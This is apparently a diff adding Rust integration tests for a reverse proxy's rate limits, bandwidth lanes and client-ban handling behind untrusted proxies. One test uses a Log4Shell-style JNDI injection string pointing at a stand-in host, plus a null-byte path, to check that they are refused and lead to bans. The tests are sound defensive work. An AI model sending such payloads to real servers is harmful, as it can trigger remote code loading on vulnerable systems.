@@ -2,7 +2,7 @@
 
 use serde_json::Value;
 
-use crate::harness::{Origin, Proxy, ProxyBuilder, Wire, wait_for, wait_until};
+use crate::harness::{Answer, Origin, Proxy, ProxyBuilder, Wire, wait_for, wait_until};
 
 const SITE: &str = "shop.test";
 const LIMIT: &str = "plain_http = true\nlimit = \"5 per 1h by client-ip\"";
@@ -91,7 +91,7 @@ async fn told_only_to_warn_it_warns_and_turned_off_it_says_nothing() {
 #[tokio::test]
 async fn a_proxy_inside_that_is_not_trusted_is_found_by_what_it_adds() {
     let origin = Origin::saying("ok").await;
-    let proxy = site(Proxy::builder(), &origin).await;
+    let proxy = site(Proxy::builder().set("server.max_connections_per_client", "2"), &origin).await;
     let mut wire = proxy.plain().await;
     let mut refused = 0;
     // Enough to be believed; the fifth request and what follows are refused for the proxy's address.
@@ -108,4 +108,84 @@ async fn a_proxy_inside_that_is_not_trusted_is_found_by_what_it_adds() {
         (status(&mut *wire.lock().await, "X-Forwarded-For: 192.0.2.1\r\n").await == 200).then_some(())
     })
     .await;
+    // Its connections are those of many, too.
+    let mut more = Vec::new();
+    for _ in 0..4 {
+        let mut wire = proxy.plain().await;
+        assert_eq!(status(&mut wire, "X-Forwarded-For: 192.0.2.1\r\n").await, 200);
+        more.push(wire);
+    }
+}
+
+#[tokio::test]
+async fn behind_a_proxy_that_is_not_trusted_nobody_waits_for_the_bandwidth_of_its_address() {
+    let origin = Origin::answering(|_| Answer::ok("x".repeat(256 * 1024))).await;
+    let site =
+        format!("{}\nplain_http = true\nbandwidth = {{ down = \"1KiB/s by client-ip\" }}", origin.backends());
+    let builder = Proxy::builder()
+        .set("networks.edge.networks", "[\"127.0.0.0/8\"]")
+        .set("networks.edge.proxy", "true")
+        .site(SITE, &site);
+    let proxy = builder.start().await;
+    let mut wire = proxy.plain().await;
+    for _ in 0..3 {
+        // At the rate of its lane each would take four minutes.
+        assert_eq!(wire.get(SITE, "/").await.body.len(), 256 * 1024);
+    }
+    let metrics = proxy.metrics().await;
+    assert_eq!(metrics.sum("tidegate_bandwidth_waits_total", &[]), 0.0);
+    assert!(metrics.sum("tidegate_would_block_total", &[("policy", "bandwidth")]) >= 2.0);
+}
+
+/// The status of a request of this client, by PROXY protocol; `None`: its connection was closed.
+async fn knock(proxy: &Proxy, client: &str, target: &str) -> Option<u16> {
+    let mut plain = proxy.plain().await;
+    plain.send(format!("PROXY TCP4 {client} {client} 4711 80\r\n")).await;
+    let request = format!("GET {target} HTTP/1.1\r\nHost: {SITE}\r\nConnection: close\r\n\r\n");
+    // Who is banned may be closed before the request is written.
+    let _ = plain.try_send(request).await;
+    plain.try_reply_to("GET").await.ok().map(|reply| reply.status)
+}
+
+#[tokio::test]
+async fn what_is_done_through_a_proxy_that_is_not_trusted_bans_nobody() {
+    const PROXY: &str = "198.51.100.1";
+    const CLIENT: &str = "203.0.113.1";
+    let origin = Origin::saying("ok").await;
+    let edge = "[networks.edge]\nnetworks = [\"198.51.100.0/24\"]\nproxy = true\n";
+    let proxy = Proxy::builder()
+        .set("server.trusted_proxies", "[\"127.0.0.1/32\"]")
+        .set("server.proxy_protocol", "true")
+        .set("patches.mode", "\"enforce\"")
+        .set("bans.after", "\"3 per 1h\"")
+        .set("bans.offences", "[\"patch\", \"bad-request\"]")
+        .site(SITE, &format!("plain_http = true\n{}", origin.backends()))
+        .start()
+        .await;
+    proxy.edit_config(|text| format!("{text}\n{edge}"));
+    assert_eq!(proxy.reload().await["refused"], false);
+    let exploit = "/?x=${jndi:ldap://evil.test/a}";
+    for offence in [exploit, "/a%00b"] {
+        let refused = if offence == exploit { 403 } else { 400 };
+        for _ in 0..5 {
+            assert_eq!(knock(&proxy, PROXY, offence).await, Some(refused));
+        }
+    }
+    assert_eq!(knock(&proxy, PROXY, "/").await, Some(200));
+    assert_eq!(proxy.admin("GET", "/bans").await["bans"].as_array().map(Vec::len), Some(0));
+    // Of a client they do, also where they are exploits.
+    for _ in 0..3 {
+        assert_eq!(knock(&proxy, CLIENT, exploit).await, Some(403));
+    }
+    assert_eq!(knock(&proxy, CLIENT, "/").await, None, "at the door");
+    let bans = proxy.admin("GET", "/bans").await["bans"].clone();
+    assert_eq!(bans[0]["net"], format!("{CLIENT}/32"), "{bans}");
+    assert!(bans[0]["why"].as_str().unwrap().contains("the last: patch"), "{bans}");
+    // The client turns out to be behind a proxy: what it was banned for was not one client's doing. A person's word holds.
+    proxy.edit_config(|text| text.replace("198.51.100.0/24", "203.0.113.0/24"));
+    assert_eq!(proxy.reload().await["refused"], false);
+    assert_eq!(knock(&proxy, CLIENT, "/").await, Some(200));
+    let banned = proxy.command_async(&["ban", CLIENT]).await;
+    assert!(banned.status.success(), "{}", String::from_utf8_lossy(&banned.stderr));
+    assert_eq!(knock(&proxy, CLIENT, "/").await, None);
 }
